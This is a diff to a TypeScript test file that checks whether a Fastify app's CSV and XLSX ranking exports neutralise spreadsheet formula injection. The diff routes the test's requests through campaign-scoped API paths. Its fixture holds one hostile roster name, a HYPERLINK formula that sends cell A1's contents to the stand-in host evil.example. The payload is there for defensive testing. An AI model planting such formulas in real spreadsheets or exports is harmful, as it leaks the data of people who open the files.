@@ -4,7 +4,9 @@ import type { FastifyInstance } from 'fastify';
 import { nuiThanh2023 } from '@thidua/scoring';
 import { campaignFromJson } from '../src/server/campaign-source.js';
 import { nuiThanhRoster } from '../src/demo/roster.js';
-import { auth, csvHeaders, startApp, statisticsCsv, statsFor, tempDb } from './helpers.js';
+import { api, auth, csvHeaders, startApp, statisticsCsv, statsFor, tempDb } from './helpers.js';
+
+const E = (path: string) => api('evil', path);
 
 /** A roster name written to trigger a spreadsheet formula must come out as inert text. */
 const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
@@ -14,10 +16,10 @@ describe('exports neutralise formula injection', () => {
   const db = tempDb();
   let app: FastifyInstance;
   beforeAll(async () => {
-    app = await startApp({ dbPath: db.dbPath, campaign: campaignFromJson({ id: 'evil', ruleSet: nuiThanh2023, roster: evilRoster }) });
+    app = await startApp({ dbPath: db.dbPath, campaign: { kind: 'file', ...campaignFromJson({ id: 'evil', ruleSet: nuiThanh2023, roster: evilRoster }) } });
     const res = await app.inject({
       method: 'POST',
-      url: '/api/admin/snapshots?asOf=2023-12-31',
+      url: E('admin/snapshots?asOf=2023-12-31'),
       headers: { ...auth, ...csvHeaders },
       payload: Buffer.from(statisticsCsv(statsFor(evilRoster, 7))),
     });
@@ -29,7 +31,7 @@ describe('exports neutralise formula injection', () => {
   });
 
   it('CSV cells never begin with = + - @', async () => {
-    for (const url of ['/api/export/ranking.csv', '/api/export/awards.csv', '/api/template.csv']) {
+    for (const url of [E('export/ranking.csv'), E('export/awards.csv'), E('template.csv')]) {
       const body = (await app.inject(url)).body.replace(/^\uFEFF/, '');
       const cells = body.split(/\r?\n/).flatMap((line) => line.split(',')).map((c) => c.replace(/^"/, ''));
       expect(cells.filter((c) => /^[=+@]/.test(c)), url).toEqual([]);
@@ -39,7 +41,7 @@ describe('exports neutralise formula injection', () => {
 
   it('XLSX cells hold the name as text, not as a formula', async () => {
     const wb = new ExcelJS.Workbook();
-    await wb.xlsx.load((await app.inject('/api/export/ranking.xlsx')).rawPayload as unknown as ArrayBuffer);
+    await wb.xlsx.load((await app.inject(E('export/ranking.xlsx'))).rawPayload as unknown as ArrayBuffer);
     const values: unknown[] = [];
     wb.worksheets[0]?.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
     expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
